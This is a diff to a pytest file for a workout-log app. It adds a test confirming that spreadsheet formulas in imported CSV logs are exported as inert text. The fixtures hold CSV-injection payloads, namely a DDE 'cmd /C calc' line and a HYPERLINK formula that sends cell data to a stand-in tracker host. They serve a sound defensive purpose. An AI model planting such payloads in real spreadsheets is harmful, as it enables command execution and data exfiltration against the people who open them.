@@ -3,11 +3,14 @@ import with row problems by line, export, and a read-only sample view."""
 
 from __future__ import annotations
 
+import csv
+import io
 import shutil
 
 import pytest
 import streamlit as st
 
+from legday.csv_export import FORMULA_LEADS
 from legday.store import open_store, strength_entries
 from legday.strength.catalogue import load_catalogue
 from legday.strength.log import read_legday_csv
@@ -161,7 +164,7 @@ def test_the_export_is_the_log_in_legday_csv(make_app, own_copy, downloads):
     assert not at.exception
     assert at.get("download_button")
     text = str(downloads[-1])
-    assert text.startswith("date,exercise,sets,reps,weight_kg,rpe,duration_min,notes\n")
+    assert text.startswith("date,exercise,sets,reps,weight_kg,rpe,duration_min,notes\r\n")
     back = read_legday_csv(text.encode(), name="export.csv")
     assert not back.problems
     assert len(back.entries) == len(_local_entries(own_copy))
@@ -173,3 +176,47 @@ def test_saving_an_empty_new_session_says_there_is_nothing_to_save(make_app, emp
     assert not at.exception
     assert "Nothing to save" in at.error[0].value
     assert _local_entries(empty_db).empty
+
+
+#: A Strong export and a legday log whose names and notes a spreadsheet would run.
+STRONG_FORMULAS = (
+    b"Date,Workout Name,Duration,Exercise Name,Set Order,Weight,Reps,Distance,Seconds,Notes,"
+    b"Workout Notes,RPE\n"
+    b"2025-03-05 18:02:11,=cmd|' /C calc'!A1,1h 5m,Squat (Barbell),1,100,5,0,0,"
+    b"\"=HYPERLINK(\"\"https://tracker.example/?d=\"\"&A1,\"\"click\"\")\",+1+2,8\n"
+    b"2025-03-05 18:02:11,=cmd|' /C calc'!A1,1h 5m,@SUM(A1:A9),1,60,8,0,0,-2+3,+1+2,7\n"
+)
+LEGDAY_FORMULAS = (
+    b"date,exercise,sets,reps,weight_kg,rpe,duration_min,notes\n"
+    b"2025-03-07,\"=HYPERLINK(\"\"https://tracker.example\"\",\"\"x\"\")\",3,5,80,8,,\"\t=1+1\"\n"
+    b"2025-03-07,Lunge,3,8,20,7,,\"\r=cmd|' /C calc'!A1\"\n"
+)
+
+
+def test_formulas_in_imported_logs_are_text_in_the_download(make_app, empty_db, downloads):
+    at = make_app(empty_db, PAGE, sample=False)
+    for name, data in (("strong.csv", STRONG_FORMULAS), ("log.csv", LEGDAY_FORMULAS)):
+        at.file_uploader(key="strength_csv").set_value((name, data, "text/csv")).run()
+        at.button(key="strength_load").click().run()
+        assert not at.exception
+    stored = _local_entries(empty_db)
+    texts = {t for t in [*stored["exercise"], *stored["notes"]] if isinstance(t, str)}
+    assert {"@SUM(A1:A9)", "-2+3", "=1+1"} <= texts  # stored as they came (trimmed)
+
+    text = str(downloads[-1])
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert len(cells) == 8 * (len(stored) + 1)
+    formulas = [c for c in cells if c.startswith(FORMULA_LEADS) and not _is_number(c)]
+    assert formulas == []
+    assert "'=HYPERLINK(\"https://tracker.example\",\"x\")" in cells
+    back = read_legday_csv(text.encode(), name="export.csv").entries
+    assert set(back["exercise"].dropna()) == set(stored["exercise"].dropna())
+    assert set(back["notes"].dropna()) == set(stored["notes"].dropna())
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
